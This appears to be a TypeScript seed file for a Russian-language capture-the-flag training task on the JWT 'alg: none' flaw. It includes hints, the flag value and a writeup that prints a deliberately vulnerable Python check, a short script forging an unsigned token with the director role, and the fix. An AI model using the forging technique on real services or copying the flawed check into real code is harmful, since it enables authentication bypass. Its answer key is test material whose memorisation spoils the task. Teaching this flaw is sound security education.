import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const unsignedToken: TaskSeed = {
  id: 108,
  title: 'Токен без подписи',
  difficulty: 'medium',
  points: 150,
  important: true,
  status: 'active',
  description: md`
    Бюро пропусков выдаёт посетителю JWT — строку из трёх частей, разделённых точками:

    \`\`\`text
    eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9   заголовок
    .eyJzdWIiOiJ2aXNpdG9yIiwicm9sZSI6Imd1ZXN0In0   данные
    .…   подпись
    \`\`\`

    Первые две части — это JSON в кодировке Base64URL. Они не зашифрованы, их может прочитать каждый.
    Подделать их должна мешать подпись.

    ### Что дано

    Исходный код службы \`auth-service.py\`. Обратите внимание на то, **откуда** он узнаёт алгоритм
    проверки.

    ### Что сделать

    1. Получите пропуск посетителя на странице \`/pass\`.
    2. Прочитайте его содержимое. Удобно делать это в терминале:

       \`\`\`bash
       cut -d. -f2 token.txt | tr '_-' '/+' | base64 -d 2>/dev/null; echo
       \`\`\`

    3. Изготовьте пропуск с ролью \`director\` и предъявите его на странице \`/vault\`.

    ### Вопросы для самопроверки

    - Почему нельзя верить полю \`alg\`, если оно пришло вместе с токеном?
    - Что изменится, если ключ HMAC окажется словом из словаря?
    - Зачем токену срок действия и куда его записывают?

    Формат описан в [RFC 7519](https://rfc.example/7519), типичные ошибки собраны в [RFC
    8725](https://rfc.example/8725).
  `,
  flags: [{ id: 1081, prefix: 'flag', stem: 'verify_before_you_trust' }],
  hints: [
    {
      id: 1081,
      cost: 0,
      text: md`
        В стандарте есть алгоритм для токенов, подпись которых уже проверена другим способом.
        Называется он \`none\`.
      `,
    },
    {
      id: 1082,
      cost: 15,
      text: md`
        Служба сравнивает значение \`alg\` со строкой \`none\`, прежде чем отказать. А с учётом регистра?
      `,
    },
  ],
  attachments: [{ name: 'auth-service.py', size: 6120 }],
  writeup: {
    rule: 'after_solve',
    content: md`
      В коде есть такая проверка:

      \`\`\`python
      if header['alg'] == 'none':
          raise Forbidden('unsigned token')
      if header['alg'].lower() == 'none':
          return payload            # «для тестов»
      \`\`\`

      Значение \`None\` не равно \`none\`, первую проверку проходит и попадает во вторую. Собираем токен с
      пустой подписью — точка в конце обязательна:

      \`\`\`python
      import base64, json

      def part(value: dict) -> str:
          raw = json.dumps(value, separators=(',', ':')).encode()
          return base64.urlsafe_b64encode(raw).rstrip(b'=').decode()

      print(part({'alg': 'None', 'typ': 'JWT'}) + '.' + part({'sub': 'me', 'role': 'director'}) + '.')
      \`\`\`

      **Исправление:** список допустимых алгоритмов задаёт сервер, а не токен.

      \`\`\`python
      jwt.decode(token, key, algorithms=['HS256'])
      \`\`\`
    `,
  },
  lab: {
    expectedSeconds: 15,
    lifetimeSeconds: 3600,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Служба пропусков', protocol: 'http', port: 8080 }],
    hasTerminal: false,
  },
  competencies: [1, 2],
  gitlabId: 4108,
}
